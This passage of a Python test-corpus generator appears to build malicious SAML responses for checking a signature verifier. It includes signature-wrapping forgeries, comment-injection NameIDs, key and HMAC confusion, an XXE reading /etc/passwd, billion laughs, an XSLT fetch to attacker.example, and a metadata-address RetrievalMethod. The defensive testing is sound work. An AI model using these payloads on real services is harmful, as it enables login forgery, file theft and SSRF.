      "Only SubjectConfirmation has Method holder-of-key: no bearer confirmation (Profiles §4.1.4.2)",
      f'Method="{BEARER}"', f'Method="{HOK}"')
    m("scd-recipient-wrong", "recipient", "SubjectConfirmationData Recipient is another SP's ACS",
      f'Recipient="{ACS}"', 'Recipient="https://sp.other.example/saml/acs"')
    m("scd-recipient-extra-query", "recipient", "Recipient is the ACS URL with an extra query string",
      f'Recipient="{ACS}"', f'Recipient="{ACS}?tenant=evil"')
    m("scd-notonorafter-past", "time",
      "SubjectConfirmationData NotOnOrAfter 2025-12-31T23:59:30Z = now-90 s, beyond the skew",
      f'<saml:SubjectConfirmationData NotOnOrAfter="{NOT_ON_OR_AFTER}"',
      '<saml:SubjectConfirmationData NotOnOrAfter="2025-12-31T23:59:30Z"')
    m("scd-notbefore-present", "subject_confirmation",
      "Bearer SubjectConfirmationData carries NotBefore (forbidden, Profiles §4.1.4.2), value itself in range",
      f'<saml:SubjectConfirmationData NotOnOrAfter="{NOT_ON_OR_AFTER}"',
      f'<saml:SubjectConfirmationData NotBefore="{NOT_BEFORE}" NotOnOrAfter="{NOT_ON_OR_AFTER}"')
    m("scd-inresponseto-mismatch", "in_response_to",
      "SubjectConfirmationData InResponseTo differs from the Response's (which matches the pending request)",
      f'Recipient="{ACS}" InResponseTo="{REQ}"', f'Recipient="{ACS}" InResponseTo="{OTHER_REQ}"')

    def other_request(t):
        t = replace_once(t, f'Destination="{ACS}" InResponseTo="{REQ}"', f'Destination="{ACS}" InResponseTo="{OTHER_REQ}"')
        return replace_once(t, f'Recipient="{ACS}" InResponseTo="{REQ}"', f'Recipient="{ACS}" InResponseTo="{OTHER_REQ}"')

    add("inresponseto-other-request", "mutation", signed_base(mutate=other_request), "in_response_to",
        "Response (and its SubjectConfirmationData) answer another request than the pending one "
        "(login CSRF / cross-user replay)")
    authn = (f'<saml:AuthnStatement AuthnInstant="{ISSUE}" SessionIndex="_session_1" '
             f'SessionNotOnOrAfter="{SESSION_END}"><saml:AuthnContext><saml:AuthnContextClassRef>{PPT}'
             "</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement>")
    m("authnstatement-missing", "authn_statement",
      "No AuthnStatement (Profiles §4.1.4.2 requires one in a bearer SSO assertion)", authn, "",
      expect_alt=["structure"])
    success = f'<samlp:Status><samlp:StatusCode Value="{STATUS}Success"/></samlp:Status>'
    m("status-two-elements", "structure",
      "Two Status elements, Success then Requester (ruby-saml response_double_status_code)", success,
      success + f'<samlp:Status><samlp:StatusCode Value="{STATUS}Requester"/></samlp:Status>',
      expect_alt=["status"])
    m("nameid-foreign-namespace", "structure",
      "Subject holds <evil:NameID xmlns:evil=\"urn:evil\"> and no saml:NameID (GO-2026-6909 namespace-blind lookup)",
      f'<saml:NameID Format="{EMAIL_FMT}">{ALICE}</saml:NameID>',
      f'<evil:NameID xmlns:evil="urn:evil" Format="{EMAIL_FMT}">{ALICE}</evil:NameID>')

    # Configuration-only entries: the same good files under other SP settings.
    add("unsolicited-not-allowed", "mutation", None, "in_response_to",
        "valid-unsolicited.xml while a request is pending and unsolicited responses are off (the default)",
        file=f"{REL}/valid-unsolicited.xml")
    add("no-pending-request", "mutation", None, "in_response_to",
        "valid-assertion-signed.xml answers a request this SP has no record of (unsolicited allowed)",
        file=f"{REL}/valid-assertion-signed.xml", request_id=None, allow_unsolicited=True)
    add("untrusted-signing-cert", "mutation", None, "key",
        "valid-assertion-signed.xml with the attacker's certificate configured as the trust anchor",
        file=f"{REL}/valid-assertion-signed.xml", trusted_cert=ATTACKER_CERT, expect_alt=["signature"])


# --- C. attacks -----------------------------------------------------------------------------


def insert_doctype(data: bytes, subset: str) -> bytes:
    assert data.startswith(XML_DECL)
    return XML_DECL + f"<!DOCTYPE samlp:Response [\n{subset}\n]>\n".encode() + data[len(XML_DECL):]


def bytes_replace_once(data: bytes, old: bytes, new: bytes) -> bytes:
    if data.count(old) != 1:
        raise AssertionError(f"expected exactly one {old!r}, found {data.count(old)}")
    return data.replace(old, new)


def gen_attacks(valid_as: bytes, valid_rs: bytes):
    A = "attack"
    # digest_of must agree with xmlsec on the genuine documents; the checks below then show
    # that each wrapped copy still carries exactly the signed bytes (the attack is live).
    genuine = signature_of(assertion_of(parse(valid_as))).find(f".//{q(DS, 'DigestValue')}").text
    check(digest_of(assertion_of(parse(valid_as))) == genuine, "digest_of agrees with xmlsec (assertion)")
    genuine_resp = signature_of(parse(valid_rs)).find(f".//{q(DS, 'DigestValue')}").text
    check(digest_of(parse(valid_rs)) == genuine_resp, "digest_of agrees with xmlsec (response)")

    # XSW1-2: Response signatures (SAML Raider XSWHelpers.applyXSW1/2).
    for n, where in ((1, "inside the Signature"), (2, "before the Signature")):
        root = parse(valid_rs)
        clone = copy.deepcopy(root)
        drop_signature(clone)
        check(digest_of(clone) == genuine_resp, f"xsw{n}: the copy is the signed Response")
        forge(root)
        sig = signature_of(root)
        if n == 1:
            sig.append(clone)
        else:
            sig.addprevious(clone)
        root.set("ID", EVIL_RESP_ID)
        add(f"xsw{n}", A, serialize(root), "duplicate_id",
            f"XSW{n} (Somorovsky 2012; SAML Raider): forged root Response ID {EVIL_RESP_ID}, copy of the "
            f"signed Response (Signature removed) {where}; the assertion ID appears twice",
            expect_alt=["structure", "reference", "multiple_assertions"])

    # XSW3-8: Assertion signatures.
    root = parse(valid_as)
    a = assertion_of(root)
    evil = copy.deepcopy(a)
    forge(evil)
    evil.set("ID", EVIL_ASSERT_ID)
    drop_signature(evil)
    a.addprevious(evil)
    add("xsw3", A, serialize(root), "multiple_assertions",
        "XSW3: unsigned forged Assertion inserted before the signed one (app takes the first)",
        expect_alt=["not_signed"])

    root = parse(valid_as)
    a = assertion_of(root)
    evil = copy.deepcopy(a)
    forge(evil)
    evil.set("ID", EVIL_ASSERT_ID)
    drop_signature(evil)
    root.append(evil)
    evil.append(a)
    add("xsw4", A, serialize(root), "structure",
        "XSW4: forged unsigned Assertion replaces the original, which is nested as its last child",
        expect_alt=["not_signed", "multiple_assertions"])

    root = parse(valid_as)
    a = assertion_of(root)
    orig = copy.deepcopy(a)
    forge(a)
    drop_signature(orig)
    check(digest_of(orig) == genuine, "the moved copy is the signed assertion")
    root.append(orig)
    a.set("ID", EVIL_ASSERT_ID)
    add("xsw5", A, serialize(root), "multiple_assertions",
        "XSW5: signed assertion tampered and renamed (keeps its Signature); unsigned copy with the "
        "original ID appended to the Response", expect_alt=["reference", "signature"])

    root = parse(valid_as)
    a = assertion_of(root)
    orig = copy.deepcopy(a)
    forge(a)
    drop_signature(orig)
    check(digest_of(orig) == genuine, "the moved copy is the signed assertion")
    signature_of(a).append(orig)
    a.set("ID", EVIL_ASSERT_ID)
    add("xsw6", A, serialize(root), "structure",
        "XSW6: as XSW5 but the unsigned copy sits inside the tampered assertion's ds:Signature",
        expect_alt=["reference", "multiple_assertions"])

    root = parse(valid_as)
    a = assertion_of(root)
    ext = etree.Element("Extensions")
    a.addprevious(ext)
    evil = copy.deepcopy(a)
    forge(evil)
    drop_signature(evil)
    ext.append(evil)
    add("xsw7", A, serialize(root), "duplicate_id",
        "XSW7: unqualified <Extensions> before the signed assertion holds a forged copy with the same ID",
        expect_alt=["structure", "multiple_assertions"])

    root = parse(valid_as)
    a = assertion_of(root)
    sig = signature_of(a)
    orig = copy.deepcopy(a)
    forge(a)
    drop_signature(orig)
    check(digest_of(orig) == genuine, "the moved copy is the signed assertion")
    etree.SubElement(sig, q(DS, "Object")).append(orig)
    add("xsw8", A, serialize(root), "duplicate_id",
        "XSW8: tampered assertion keeps ID and Signature; ds:Object in that Signature holds the untouched copy",
        expect_alt=["signature", "structure"])

    # XSW9 / CVE-2019-3465: a second SignedInfo with the forged digest.
    root = parse(valid_as)
    a = assertion_of(root)
    forge(a)
    sig = signature_of(a)
    fake = copy.deepcopy(sig.find(q(DS, "SignedInfo")))
    fake.find(f".//{q(DS, 'DigestValue')}").text = digest_of(a)
    sig.find(q(DS, "SignatureValue")).addnext(fake)
    add("xsw9-two-signedinfo", A, serialize(root), "structure",
        "CVE-2019-3465 (xmlseclibs, SimpleSAMLphp): genuine SignedInfo+SignatureValue, then a second "
        "SignedInfo whose digest matches the forged assertion", expect_alt=["signature"])

    # Comment / CDATA splits: the signature stays valid, the full text must be read.
    data = signed_base(name_id=VICTIM_OWNED)
    data = bytes_replace_once(data, f">{VICTIM_OWNED}</saml:NameID>".encode(),
                              f">{VICTIM}<!---->.evil.com</saml:NameID>".encode())
    check(all_signatures_verify(data, IDP_CERT), "comment-in-nameid must verify")
    add("comment-in-nameid", A, data, "ok",
        "CVE-2017-11427/11428/11429 (Duo, VU#475445): signed NameID victim@example.com.evil.com with "
        "<!----> inserted after victim@example.com; exc-c14n ignores it, so the signature holds and the "
        "NameID must read whole (rejecting comments in signed text would be stricter, never truncate)",
        expect_name_id=VICTIM_OWNED, expect_alt=["xml"])

    data = signed_base(email=VICTIM_OWNED)
    data = bytes_replace_once(data, f">{VICTIM_OWNED}</saml:AttributeValue>".encode(),
                              f">{VICTIM}<!---->.evil.com</saml:AttributeValue>".encode())
    check(all_signatures_verify(data, IDP_CERT), "comment-in-attribute must verify")
    attrs = {n: v for n, v in ATTRIBUTES}
    attrs["email"] = [VICTIM_OWNED]
    add("comment-in-attribute", A, data, "ok",
        "Comment-injection variant (VU#475445) in the email AttributeValue: must read "
        "victim@example.com.evil.com, not victim@example.com", expect_attributes=attrs, expect_alt=["xml"])

    data = signed_base(name_id=VICTIM_OWNED)
    data = bytes_replace_once(data, f">{VICTIM_OWNED}</saml:NameID>".encode(),
                              f">{VICTIM}<![CDATA[.evil.com]]></saml:NameID>".encode())
    check(all_signatures_verify(data, IDP_CERT), "cdata-split-nameid must verify")
    add("cdata-split-nameid", A, data, "ok",
        "CDATA section splits the signed NameID (VU#475445 variant); c14n turns it into text, so it "
        "verifies and must read victim@example.com.evil.com", expect_name_id=VICTIM_OWNED)

    # Signature exclusion.
    root = parse(valid_as)
    for s in [el for el in elements(root) if el.tag == q(DS, "Signature")]:
        s.getparent().remove(s)
    add("signature-stripped", A, serialize(root), "not_signed",
        "Every ds:Signature removed (CVE-2020-12676 FusionAuth, CloudStack #4519 class)")

    root = parse(valid_as)
    sig = signature_of(assertion_of(root))
    sig.addprevious(etree.fromstring(f'<ds:Signature xmlns:ds="{DS}"/>'))
    sig.getparent().remove(sig)
    add("signature-empty", A, serialize(root), "signature",
        "Assertion's Signature replaced by an empty <ds:Signature/>", expect_alt=["structure", "not_signed"])

    root = parse(valid_as)
    sig = signature_of(assertion_of(root))
    sig.tag = "{urn:x}Signature"
    add("signature-foreign-namespace", A, serialize(root), "structure",
        "The assertion's Signature element is {urn:x}Signature; its ds:SignedInfo etc. are untouched and "
        "cryptographically valid (a //ds:SignedInfo search would accept)", expect_alt=["not_signed"])

    root = parse(valid_as)
    dv = assertion_of(root).find(f".//{q(DS, 'DigestValue')}")
    raw = bytearray(base64.b64decode(dv.text))
    raw[0] ^= 0x01
    dv.text = base64.b64encode(bytes(raw)).decode()
    add("digest-tampered", A, serialize(root), "signature", "DigestValue changed by one bit")

    root = parse(valid_as)
    sv = assertion_of(root).find(f".//{q(DS, 'SignatureValue')}")
    raw = bytearray(base64.b64decode(sv.text))
    raw[-1] ^= 0x01
    sv.text = b64_lines(bytes(raw))
    add("signature-value-tampered", A, serialize(root), "signature", "SignatureValue changed by one bit")

    data = bytes_replace_once(valid_as, f">{ALICE}</saml:NameID>".encode(), f">{ADMIN}</saml:NameID>".encode())
    add("nameid-tampered-after-signing", A, data, "signature",
        "NameID rewritten to admin@example.com after signing (digest mismatch)")

    # Key confusion.
    root = parse(build_response(name_id=ADMIN, email=ADMIN).encode())
    sign(assertion_of(root), signer="attacker")
    data = serialize(root)
    check(all_signatures_verify(data, ATTACKER_CERT), "cert-faking verifies with the attacker cert")
    add("cert-faking", A, data, "key",
        "Forged assertion re-signed by attacker-rsa2048 (same subject as the IdP), attacker cert in KeyInfo "
        "(CVE-2015-5372, CVE-2024-32962, CVE-2021-21239; SAML Raider cert cloning). A verifier that "
        "ignores KeyInfo reports signature", expect_alt=["signature"])

    root = parse(build_response(name_id=ADMIN, email=ADMIN).encode())
    sign(assertion_of(root), signer="attacker",
         keyinfo=f"<ds:KeyInfo>{rsa_key_value('ds', ATTACKER_CERT)}</ds:KeyInfo>")
    data = serialize(root)
    check(all_signatures_verify(data, ATTACKER_CERT), "keyvalue-only verifies with the attacker key")
    add("keyvalue-only-attacker", A, data, "key",
        "Forged assertion signed by the attacker, KeyInfo holds only the attacker's bare RSAKeyValue",
        expect_alt=["signature"])

    # Algorithms.
    root = parse(build_response().encode())
    sign(assertion_of(root), sig_alg=RSA_SHA1, digest_alg=SHA1)
    data = serialize(root)
    check(all_signatures_verify(data, IDP_CERT), "rsa-sha1 verifies")
    add("rsa-sha1", A, data, "algorithm", "Signed by the real IdP key with rsa-sha1 and a sha1 digest (SHA-1 off by default)")

    root = parse(build_response().encode())
    sign(assertion_of(root), digest_alg=SHA1)
    data = serialize(root)
    check(all_signatures_verify(data, IDP_CERT), "digest-sha1 verifies")
    add("digest-sha1", A, data, "algorithm", "rsa-sha256 signature over a sha1 Reference digest")

    cert_pem = (ROOT / IDP_CERT).read_bytes()
    root = parse(build_response(name_id=ADMIN, email=ADMIN).encode())
    sig = sign(assertion_of(root), sig_alg=HMAC_SHA1, hmac_key=cert_pem)
    check(verify(root, sig, hmac_key=cert_pem), "hmac-sha1 verifies with the PEM bytes")
    add("hmac-sha1", A, serialize(root), "algorithm",
        "Forged assertion 'signed' hmac-sha1 keyed with the bytes of idp-rsa2048.crt (PEM file as is) and "
        "that cert in KeyInfo: algorithm confusion (GHSA-c27r-x354-4m68 xml-crypto, CVE-2021-21239)")

    root = parse(build_response(name_id=ADMIN, email=ADMIN).encode())
    sig = sign(assertion_of(root), sig_alg=HMAC_SHA1, hmac_key=cert_pem)
    method = sig.find(f"{q(DS, 'SignedInfo')}/{q(DS, 'SignatureMethod')}")
    etree.SubElement(method, q(DS, "HMACOutputLength")).text = "8"
    signed_info = exc_c14n(sig.find(q(DS, "SignedInfo")))
    sig.find(q(DS, "SignatureValue")).text = base64.b64encode(
        hmac.new(cert_pem, signed_info, "sha1").digest()[:1]).decode()
    add("hmac-truncated", A, serialize(root), "algorithm",
        "hmac-sha1 with HMACOutputLength 8 (one byte; CVE-2009-0217), keyed with the IdP cert PEM bytes")

    # Transforms and references.
    root = parse(valid_as)
    transforms = assertion_of(root).find(f".//{q(DS, 'Transforms')}")
    xslt = etree.fromstring(
        f'<ds:Transform xmlns:ds="{DS}" Algorithm="{XSLT_T}">'
        '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">'
        '<xsl:template match="/"><xsl:copy-of select="document(\'http://attacker.example/exfil\')"/>'
        "<xsl:copy-of select=\"/\"/></xsl:template></xsl:stylesheet></ds:Transform>")
    transforms[0].addnext(xslt)
    add("xslt-transform", A, serialize(root), "transform",
        "XSLT Transform (fetches http://attacker.example/) inserted into the signed Reference "
        "(CVE-2011-1425 class); must be refused before it runs. The signature no longer verifies",
        xmlsec1=False, expect_alt=["signature"])

    root = parse(build_response().encode())
    xpath = (f'<ds:XPath xmlns:ds="{DS}">not(ancestor-or-self::ds:Signature)</ds:XPath>')
    sign(assertion_of(root), transforms=((XPATH_T, xpath), (EXC_C14N, None)))
    data = serialize(root)
    check(all_signatures_verify(data, IDP_CERT), "xpath-transform verifies")
    add("xpath-transform", A, data, "transform",
        "Reference uses an XPath filter transform (not(ancestor-or-self::ds:Signature)) instead of "
        "enveloped-signature; cryptographically valid, only the transform policy refuses it")

    root = parse(build_response().encode())
    sign(assertion_of(root), uri=f"#xpointer(id('{ASSERT_ID}'))")
    data = serialize(root)
    check(all_signatures_verify(data, IDP_CERT), "xpointer verifies")
    add("xpointer-uri", A, data, "reference",
        "Reference URI #xpointer(id('…')) to the assertion; valid signature, URI form not allowed")

    root = parse(build_response().encode())
    sign(assertion_of(root), transforms=((ENVELOPED, None), (C14N, None), (EXC_C14N, None)))
    data = serialize(root)
    check(all_signatures_verify(data, IDP_CERT), "three-transforms verifies")
    add("three-transforms", A, data, "transform",
        "Valid signature with three transforms: enveloped, inclusive c14n, exclusive c14n")

    # DTDs.
    data = insert_doctype(valid_as, '<!ENTITY xxe SYSTEM "file:///etc/passwd">')
    data = bytes_replace_once(data, f">{ALICE}</saml:NameID>".encode(), b">&xxe;</saml:NameID>")
    add("dtd-xxe", A, data, "dtd",
        "DOCTYPE with external entity file:///etc/passwd used as the NameID (CVE-2016-10149, CVE-2021-27736)",
        xmlsec1=False)
    data = insert_doctype(valid_as, '<!ENTITY unused "not referenced anywhere">')
    add("dtd-internal-subset", A, data, "dtd",
        "Harmless internal DTD subset (one unused entity) before a validly signed response: any DOCTYPE is refused")
    ents = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)]
    data = insert_doctype(valid_as, "\n".join(ents))
    data = bytes_replace_once(data, b">Alice</saml:AttributeValue>", b">&lol9;</saml:AttributeValue>")
    add("billion-laughs", A, data, "dtd",
        "Billion laughs: 10 levels of 10x entity expansion (10^9 'lol') in the firstName AttributeValue",
        xmlsec1=False)
    data = insert_doctype(
        valid_as,
        "<!ATTLIST saml:Assertion Foo ID #IMPLIED>\n"
        '<!ATTLIST saml:NameID NameQualifier CDATA "https://evil.example/idp">')
    add("dtd-attlist-id", A, data, "dtd",
        "CVE-2018-0486 (Shibboleth XMLTooling): ATTLIST declares an extra ID attribute and a defaulted "
        "NameQualifier that is not in the signed bytes")

    # Duplicate / confusable IDs, references.
    root = parse(valid_as)
    root.set("ID", ASSERT_ID)
    add("duplicate-id", A, serialize(root), "duplicate_id",
        "Response ID set to the signed Assertion's ID: two elements carry the referenced ID")

    root = parse(valid_as)
    a = assertion_of(root)
    evil = copy.deepcopy(a)
    forge(evil)
    evil.set("ID", EVIL_ASSERT_ID)
    evil.set("Id", ASSERT_ID)
    drop_signature(evil)
    a.addprevious(evil)
    add("id-case-confusion", A, serialize(root), "multiple_assertions",
        "Forged unsigned assertion (ID _evil…) before the signed one, carrying Id=\"<signed ID>\": a lookup "
        "over ID/Id/id (xml-crypto style) resolves the Reference to the forged element",
        expect_alt=["duplicate_id"])

    root = parse(build_response().encode())
    sign(root, container=assertion_of(root))
    data = serialize(root)
    check(all_signatures_verify(data, IDP_CERT), "reference-to-other-element verifies")
    add("reference-to-other-element", A, data, "reference",
        "Signature inside the Assertion whose Reference points at the Response (its ancestor): valid, but "
        "the Reference must name the Signature's parent")

    root = parse(valid_as)
    a = assertion_of(root)
    evil = copy.deepcopy(a)
    forge(evil)
    evil.set("ID", EVIL_ASSERT_ID)
    drop_signature(evil)
    a.addnext(evil)
    add("two-assertions", A, serialize(root), "multiple_assertions",
        "Signed assertion plus an appended unsigned forged one (CVE-2022-41912 crewjam, SAML Raider "
        "CVE_2022_41912)")

    root = parse(valid_as)
    a = assertion_of(root)
    evil = copy.deepcopy(a)
    forge(evil)
    evil.set("ID", EVIL_ASSERT_ID)
    drop_signature(evil)
    a.addprevious(evil)
    advice = etree.Element(q(SAML, "Advice"))
    evil.find(q(SAML, "Conditions")).addnext(advice)
    advice.append(a)
    add("assertion-in-advice", A, serialize(root), "not_signed",
        "Forged unsigned assertion whose saml:Advice holds the signed original (node-saml *advice* vectors)",
        expect_alt=["multiple_assertions"])

    forged = parse(valid_as)
    forge(forged)
    for s in [el for el in elements(forged) if el.tag == q(DS, "Signature")]:
        s.getparent().remove(s)
    forged.set("ID", EVIL_RESP_ID)
    add("multiple-roots", A, valid_as + etree.tostring(forged), "xml",
        "Signed response followed by a second root Response with a forged assertion (CVE-2022-39299)")

    root = parse(valid_as)
    ki = assertion_of(root).find(f".//{q(DS, 'KeyInfo')}")
    for child in list(ki):
        ki.remove(child)
    etree.SubElement(ki, q(DS, "RetrievalMethod"), URI="http://169.254.169.254/latest/meta-data/",
                     Type="http://www.w3.org/2000/09/xmldsig#X509Data")
    add("retrieval-method", A, serialize(root), "key",
        "KeyInfo is only a RetrievalMethod to http://169.254.169.254/ (CVE-2023-36661); must never be "
        "fetched. Signature otherwise valid for the pinned key", xmlsec1=False, expect_alt=["ok"])

    # CVE-shaped signature confusions.
    root = parse(valid_as)
    a = assertion_of(root)
    forge(a)
    a.set("ID", EVIL_ASSERT_ID)
    ref = copy.deepcopy(a.find(f".//{q(DS, 'Reference')}"))
    ref.set("URI", f"#{EVIL_ASSERT_ID}")
    ref.find(q(DS, "DigestValue")).text = digest_of(a)
    detail = etree.SubElement(root.find(q(SAMLP, "Status")), q(SAMLP, "StatusDetail"))
    detail.append(ref)
    add("signedinfo-in-statusdetail", A, serialize(root), "reference",
        "CVE-2024-45409 (ruby-saml //ds:Reference): forged assertion (ID _evil…, untouched Signature) and a "
        "Reference with its digest smuggled into samlp:StatusDetail", expect_alt=["signature"])

    root = parse(valid_as)
    a = assertion_of(root)
    dv = a.find(f".//{q(DS, 'DigestValue')}")
    genuine = dv.text
    forge(a)
    comment = etree.Comment(digest_of(a))
    dv.text = None
    dv.append(comment)
    comment.tail = genuine
    add("digestvalue-comment", A, serialize(root), "signature",
        "CVE-2025-29775 (xml-crypto): <DigestValue><!--digest(forged)-->digest(original)</DigestValue> "
        "over a forged assertion; SignedInfo still verifies", expect_alt=["xml", "structure"])

    root = parse(valid_as)
    a = assertion_of(root)
    orig = copy.deepcopy(a)
    drop_signature(orig)
    check(digest_of(orig) == genuine, "the moved copy is the signed assertion")
    forge(a)
    a.set("ID", EVIL_ASSERT_ID)
    sig = signature_of(a)
    fake = copy.deepcopy(sig.find(q(DS, "SignedInfo")))
    fake.find(f".//{q(DS, 'Reference')}").set("URI", f"#{EVIL_ASSERT_ID}")
    fake.find(f".//{q(DS, 'DigestValue')}").text = digest_of(a)
    wrapper = etree.Element("WRAPPER")
    wrapper.append(fake)
    sig.insert(0, wrapper)
    etree.SubElement(root, "a").append(orig)
    add("wrapped-signedinfo", A, serialize(root), "structure",
        "CVE-2025-29774 (xml-crypto .//SignedInfo): <WRAPPER><ds:SignedInfo>Ref #_evil…, forged digest"
        "</ds:SignedInfo></WRAPPER> before the genuine SignedInfo; original assertion kept in <a> at the end",
        expect_alt=["reference", "signature"])

    root = parse(valid_as)
    a = assertion_of(root)
    orig = copy.deepcopy(a)
    drop_signature(orig)
    check(digest_of(orig) == genuine, "the moved copy is the signed assertion")
    forge(a)
    a.set("ID", EVIL_ASSERT_ID)
    etree.SubElement(signature_of(a), q(DS, "Object")).append(orig)
    add("signature-in-object", A, serialize(root), "reference",
        "Forged assertion (ID _evil…) whose Signature still references the original ID; the untouched "
        "original sits in that Signature's ds:Object (enveloping-style)", expect_alt=["structure", "signature"])

    # Cross-document reuse: a signed EntityDescriptor inside a Response.
    md = etree.fromstring(
        f'<md:EntityDescriptor xmlns:md="{MD}" ID="{MD_ID}" entityID="{IDP}">'
        f'<md:IDPSSODescriptor protocolSupportEnumeration="{SAMLP}">'
        f'<md:KeyDescriptor use="signing"><ds:KeyInfo xmlns:ds="{DS}"><ds:X509Data><ds:X509Certificate>'
        f"{cert_b64(IDP_CERT)}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>"
        '<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" '
        'Location="https://idp.example.com/saml2/idp/SSOService.php"/>'
        "</md:IDPSSODescriptor></md:EntityDescriptor>")
    sign(md, container=md)
    root = parse(build_response(name_id=ADMIN, email=ADMIN).encode())
    ext = etree.Element(q(SAMLP, "Extensions"))
    root.find(q(SAML, "Issuer")).addnext(ext)
    ext.append(md)
    data = serialize(root)
    check(all_signatures_verify(data, IDP_CERT), "cross-document metadata signature verifies")
    add("cross-document", A, data, "not_signed",
        "The only signature covers an IdP md:EntityDescriptor placed in samlp:Extensions; Response and "
        "forged Assertion unsigned (CVE-2024-6800 GHES)", expect_alt=["reference"])

    add("unsigned-response-unsigned-assertion", A, serialize(parse(build_response().encode())), "not_signed",
        "Neither the Response nor the Assertion is signed")

    root = parse(build_response(name_id=ADMIN, email=ADMIN, encrypted_wrapper=True).encode())
    plain = encrypt_assertion(root)
    add("encrypted-unsigned", A, serialize(root), "not_signed",
        "EncryptedAssertion (AES-128-GCM, RSA-OAEP to the SP's public cert, which anyone can do) holding an "
        "unsigned forged assertion in an unsigned Response (CVE-2024-9487 GHES): encrypted is not signed",
        sp_decryption_key=SP_ENC_KEY, keep_if=plain)

    # Malformed and pathological input.
    add("garbage", A, b"This is not XML at all.\n\x00\x01\x02\xfe\xff", "xml", "Not XML")
    add("truncated", A, valid_as[: len(valid_as) // 2], "xml", "valid-assertion-signed.xml cut in half")

    # libxml2 refuses depth > 2048 even with XML_PARSE_HUGE, so this one is signed by hand:
    # sign a placeholder, then splice the nesting into the canonical bytes (unqualified
    # elements without attributes canonicalize to themselves) and redo digest and value.
    # The same path at depth 100 is checked against xmlsec first.
    for depth in (100, 10_000):
        data = spliced_signed_base(
            '<saml:AttributeValue xsi:type="xs:string">Alice</saml:AttributeValue>',
            "<saml:AttributeValue>{}</saml:AttributeValue>", "<n>" * depth + "</n>" * depth)
        if depth == 100:
            check(all_signatures_verify(data, IDP_CERT), "hand-signed splice verifies at depth 100")
    add("deep-nesting", A, data, "limits",
        "10,000 nested unqualified elements inside the firstName AttributeValue, validly signed (lxml's "
        "libxml2 2.14 refuses depth > 2048 even with XML_PARSE_HUGE; xmlsec1 1.2.37 parses and verifies it)")

    many = " ".join(f'a{i:05d}="x"' for i in range(10_000))
    data = signed_base(mutate=lambda t: replace_once(
        t, '<saml:AttributeValue xsi:type="xs:string">Alice</saml:AttributeValue>',
        f'<saml:AttributeValue xsi:type="xs:string" {many}>Alice</saml:AttributeValue>'))
    add("many-attributes", A, data, "limits",
        "One AttributeValue element with 10,000 extra attributes (quick-xml RUSTSEC-2026-0194 class; validly signed)")

    huge_value = "A" * (3 * 1024 * 1024)
    data = signed_base(huge=True, mutate=lambda t: replace_once(t, ">Alice<", f">{huge_value}<"))
    add("oversized", A, data, "limits",
        "About 3 MiB of XML (4 MiB as base64): a 3 MiB firstName value, validly signed")

    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = deflater.compress(valid_as) + deflater.flush()
    add("deflated", A, base64.b64encode(raw), "compressed",
        "valid-assertion-signed.xml raw-DEFLATEd, then base64 (Redirect-binding encoding posted to the "
        "POST binding); this file is the base64 SAMLResponse value itself", fmt="base64")

    utf16 = valid_as.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"', 1).encode("utf-16")
    add("utf16", A, utf16, "xml",
        "valid-assertion-signed.xml re-encoded as UTF-16 (BOM, little-endian, encoding declared); legal XML "
        "that xmlsec1 verifies, refused by a UTF-8-only parser", expect_alt=["ok"])

    add("invalid-utf8", A, bytes_replace_once(valid_as, b">Alice<", b">Al\xffce<"), "xml",
        "Byte 0xFF inside the firstName value (invalid UTF-8)")
    add("undeclared-prefix", A, bytes_replace_once(
        valid_as, f'<saml:NameID Format="{EMAIL_FMT}">{ALICE}</saml:NameID>'.encode(),
        f'<x:NameID Format="{EMAIL_FMT}">{ALICE}</x:NameID>'.encode()), "xml",
        "NameID element with the undeclared prefix x:")
    add("duplicate-attribute", A, bytes_replace_once(
        valid_as, f'<saml:NameID Format="{EMAIL_FMT}">'.encode(),
        f'<saml:NameID Format="{EMAIL_FMT}" Format="{EMAIL_FMT}">'.encode()), "xml",
        "NameID with the Format attribute twice")
    add("unknown-entity", A, bytes_replace_once(
        valid_as, f">{ALICE}</saml:NameID>".encode(), f">{ALICE}&foo;</saml:NameID>".encode()), "xml",
        "Undeclared entity reference &foo; in the NameID", expect_alt=["dtd"])
    add("content-after-root", A, valid_as + b"\ntrailing text after the root element\n", "xml",
        "Character data after the root element")


# --- checks, xmlsec1, output ---------------------------------------------------------------


def check(condition: bool, what: str):
    if not condition:
        raise SystemExit(f"gen.py self-check failed: {what}")


def xmlsec1_first_signature(data: bytes, cert_file: str) -> str:
    """What the xmlsec1 command says about the first ds:Signature in document order,
    with the trusted cert as the only key (KeyInfo may only name it: `--enabled-key-data
    key-name`, otherwise xmlsec1 trusts a KeyValue found in the message), IDs registered
    on Response, Assertion and EntityDescriptor, and remote Reference URIs disabled.
    'verified' or 'rejected'."""
    with tempfile.NamedTemporaryFile(suffix=".xml") as f:
        f.write(data)
        f.flush()
        cmd = [
            "xmlsec1", "--verify",
            "--enabled-reference-uris", "empty,same-doc",
            "--id-attr:ID", f"{SAMLP}:Response",
            "--id-attr:ID", f"{SAML}:Assertion",
            "--id-attr:ID", f"{MD}:EntityDescriptor",
            "--enabled-key-data", "key-name",
            "--pubkey-cert-pem", str(ROOT / cert_file),
            f.name,
        ]
        result = subprocess.run(cmd, capture_output=True, timeout=120)
    return "verified" if result.returncode == 0 else "rejected"


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--check", action="store_true", help="do not write; exit 1 if anything would change")
    args = ap.parse_args()

    gen_valid()
    gen_mutations()
    by_name = {c["entry"]["name"]: c for c in CASES}
    gen_attacks(by_name["valid-assertion-signed"]["data"], by_name["valid-response-signed"]["data"])

    manifest_path = HERE / "manifest.json"
    old_manifest = {}
    if manifest_path.exists():
        old_manifest = {e["name"]: e for e in json.loads(manifest_path.read_text())}
    have_xmlsec1 = shutil.which("xmlsec1") is not None
    if not have_xmlsec1:
        print("warning: no xmlsec1 command; the manifest keeps its previous xmlsec1 fields", file=sys.stderr)

    # 1. Settle every file's bytes and run the self-checks; write nothing yet.
    outputs = {}
